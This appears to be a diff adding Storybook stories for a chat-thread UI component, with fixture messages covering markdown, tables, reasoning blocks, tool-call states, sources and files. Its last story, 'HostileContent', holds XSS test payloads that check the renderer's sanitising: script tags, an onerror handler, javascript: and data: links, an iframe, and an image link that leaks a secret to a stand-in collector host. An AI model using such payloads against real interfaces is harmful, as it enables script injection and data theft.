@@ -1,0 +1,323 @@
+import type { DynamicToolPart } from '@millrace/protocol'
+import type { Meta, StoryObj } from '@storybook/react-vite'
+import type { ReactElement } from 'react'
+import type { ChatInHand } from '../fixtures/chatInHand.ts'
+import { handLoader } from '../fixtures/handLoader.ts'
+import { answer, question } from '../fixtures/said.ts'
+import { Stage } from '../fixtures/Stage.tsx'
+import * as Thread from '../thread/parts.ts'
+
+const meta = {
+  args: { heightPx: 480 },
+  render: ({ heightPx }, { loaded }): ReactElement => (
+    <Stage hand={loaded['hand'] as ChatInHand} heightPx={heightPx}>
+      <Thread.Root>
+        <Thread.Messages />
+      </Thread.Root>
+    </Stage>
+  ),
+} satisfies Meta<{ readonly heightPx: number }>
+
+export default meta
+
+type Story = StoryObj<typeof meta>
+
+const short = { heightPx: 240 }
+
+export const QuestionOfOneLine: Story = {
+  args: short,
+  loaders: [handLoader({ messages: [question('q', 'Why is the sky blue?')] })],
+}
+
+export const LongQuestion: Story = {
+  loaders: [
+    handLoader({
+      messages: [
+        question(
+          'q',
+          [
+            'I keep bees at the edge of a small town, and since the lime trees along the road were cut down my two hives have brought in much less honey than in the years before.',
+            'Three things I would like to know:\n  - what could I plant that flowers in July,\n  - how far do bees really fly,\n  - and is *feeding* them a bad idea?',
+            'Markup that I type, like **this** or <b>this</b>, stays as I typed it.',
+          ].join('\n\n'),
+        ),
+      ],
+    }),
+  ],
+}
+
+export const QuestionWithoutASpace: Story = {
+  args: short,
+  loaders: [
+    handLoader({
+      messages: [
+        question('q', `https://example.com/${'a-very-long-path/'.repeat(4)}${'x'.repeat(120)}`),
+      ],
+    }),
+  ],
+}
+
+export const HeadingsAndLists: Story = {
+  args: { heightPx: 680 },
+  loaders: [
+    handLoader({
+      messages: [
+        answer(
+          'a',
+          `# Bread in a day
+
+A plain loaf needs *four things* and ~~no~~ **little** work. See the [flour guide](https://example.com/flour).
+
+## What you need
+
+- 500 g flour
+- 350 ml water
+  - lukewarm
+  - not chlorinated
+- 10 g salt
+
+### In order
+
+1. Mix, and wait for half an hour.
+2. Fold four times.
+
+   Between two folds the dough rests under a cloth.
+3. Bake at \`230 °C\`.
+
+#### And then
+
+> Time does the work of the hands.
+>
+> > A baker's saying`,
+        ),
+      ],
+    }),
+  ],
+}
+
+export const TaskList: Story = {
+  args: short,
+  loaders: [
+    handLoader({
+      messages: [answer('a', 'Done so far:\n\n- [x] Mixed\n- [ ] Folded\n- [ ] Baked at `230 °C`')],
+    }),
+  ],
+}
+
+export const TablesCodeAndFootnotes: Story = {
+  args: { heightPx: 600 },
+  loaders: [
+    handLoader({
+      messages: [
+        answer(
+          'a',
+          `Rates from last week[^1], rounded:
+
+| City | Rain, mm | Remarks |
+| :--- | ---: | --- |
+| Bergen | 71 | on six days |
+| Cádiz | 0 | none since May |
+| Ulm | 18 | one thunderstorm with hail |
+
+Read them with one call:
+
+\`\`\`python
+def rain(city: str, days: int = 7) -> float:
+    """Millimetres of rain, summed over the last days."""
+    return sum(day.rain for day in station(city).history(days) if day.rain is not None and day.checked)
+\`\`\`
+
+---
+
+The map is here: ![Map of the stations](https://maps.example.com/stations.png)
+
+Bare addresses such as https://example.com become links too.
+
+[^1]: From the open data of three weather services.`,
+        ),
+      ],
+    }),
+  ],
+}
+
+const thinking = [
+  {
+    type: 'reasoning' as const,
+    text: 'The user asks for a day count.\nFebruary 2028 is in a leap year: 2028 is divisible by 4 and not by 100.',
+    state: 'done' as const,
+  },
+  { type: 'text' as const, text: 'February 2028 has **29** days.' },
+]
+
+export const ReasoningClosed: Story = {
+  args: short,
+  loaders: [handLoader({ messages: [answer('a', thinking)] })],
+}
+
+export const ReasoningOpen: Story = {
+  args: { heightPx: 280 },
+  loaders: ReasoningClosed.loaders ?? [],
+  play: ({ canvasElement }) => openAll(canvasElement),
+}
+
+const input = { city: 'Bergen', days: 2 }
+
+const toolCalls: readonly DynamicToolPart[] = [
+  {
+    ...call('1', 'Read the weather'),
+    state: 'input-streaming',
+    input: { city: 'Ber' },
+  },
+  { ...call('2', 'Read the weather'), state: 'input-available', input },
+  {
+    ...call('3', 'Send a letter'),
+    state: 'approval-requested',
+    input: { to: 'Ada' },
+    approval: { id: 'approval-3' },
+  },
+  {
+    ...call('4', 'Send a letter'),
+    state: 'approval-responded',
+    input: { to: 'Ada' },
+    approval: { id: 'approval-4', approved: true },
+  },
+  {
+    ...call('5', 'Read the weather'),
+    state: 'output-available',
+    input,
+    output: { rainMm: [4.5, 12], wind: 'south-west' },
+  },
+  {
+    ...call('6', 'Read the weather'),
+    state: 'output-error',
+    input,
+    errorText: 'The weather station does not answer.',
+  },
+  {
+    ...call('7', 'Send a letter'),
+    state: 'output-denied',
+    input: { to: 'Ada' },
+    approval: { id: 'approval-7', approved: false },
+  },
+]
+
+export const ToolCallsInEveryState: Story = {
+  args: { heightPx: 440 },
+  loaders: [handLoader({ messages: [answer('a', toolCalls)] })],
+}
+
+export const ToolCallBeingWrittenOpen: Story = openCall('input-streaming', 280)
+export const ToolCallRunningOpen: Story = openCall('input-available', 280)
+export const ToolCallThatNeedsApprovalOpen: Story = openCall('approval-requested', 280)
+export const ToolCallAnsweredOpen: Story = openCall('approval-responded', 280)
+export const ToolCallDoneOpen: Story = openCall('output-available', 500)
+export const ToolCallFailedOpen: Story = openCall('output-error', 320)
+export const ToolCallDeclinedOpen: Story = openCall('output-denied', 280)
+
+export const Sources: Story = {
+  args: short,
+  loaders: [
+    handLoader({
+      messages: [
+        answer('a', [
+          { type: 'text', text: 'Bees fly up to three kilometres, rarely further.' },
+          {
+            type: 'source-url',
+            sourceId: '1',
+            url: 'https://example.com/bees',
+            title: 'How far bees fly',
+          },
+          { type: 'source-url', sourceId: '2', url: 'https://journal.example.org/foraging/2021' },
+          {
+            type: 'source-url',
+            sourceId: '3',
+            url: 'https://example.net/lime',
+            title: 'Lime trees and what they give in a dry July',
+          },
+        ]),
+      ],
+    }),
+  ],
+}
+
+export const Files: Story = {
+  args: short,
+  loaders: [
+    handLoader({
+      messages: [
+        answer('a', [
+          { type: 'text', text: 'Here is the report, and the chart from it.' },
+          {
+            type: 'file',
+            mediaType: 'application/pdf',
+            filename: 'rain-2021.pdf',
+            url: 'https://files.example.com/rain-2021.pdf',
+          },
+          {
+            type: 'file',
+            mediaType: 'image/png',
+            filename: 'chart.png',
+            url: 'https://files.example.com/chart.png',
+          },
+        ]),
+      ],
+    }),
+  ],
+}
+
+export const CutAtItsLength: Story = {
+  args: short,
+  loaders: [
+    handLoader({
+      messages: [
+        answer('a', 'The first hundred primes are 2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31,', {
+          finishReason: 'length',
+          model: 'small-1',
+          provider: 'Example',
+        }),
+      ],
+    }),
+  ],
+}
+
+export const HostileContent: Story = {
+  args: { heightPx: 540 },
+  loaders: [
+    handLoader({
+      messages: [
+        question('q', '<img src=x onerror="alert(1)">'),
+        answer(
+          'a1',
+          `<script>alert('written')</script>
+
+A [dead link](javascript:alert(1)), a [hidden one](<java\tscript:alert(1)>) and one to [data](data:text/html,<script>alert(1)</script>).
+
+An image that would tell: ![](https://collector.example/?secret=1234)
+
+<iframe src="https://collector.example"></iframe>`,
+        ),
+        answer('a2', `${'> '.repeat(150)}at the bottom`),
+      ],
+    }),
+  ],
+}
+
+function call(
+  toolCallId: string,
+  title: string,
+): Pick<DynamicToolPart, 'type' | 'toolName' | 'toolCallId' | 'title'> {
+  return { type: 'dynamic-tool', toolName: 'weather', toolCallId, title }
+}
+
+function openCall(state: DynamicToolPart['state'], heightPx: number): Story {
+  const parts = toolCalls.filter((part) => part.state === state)
+  return {
+    args: { heightPx },
+    loaders: [handLoader({ messages: [answer('a', parts)] })],
+    play: ({ canvasElement }) => openAll(canvasElement),
+  }
+}
+
+function openAll(canvas: HTMLElement): void {
+  for (const details of canvas.querySelectorAll('details')) details.open = true
+}
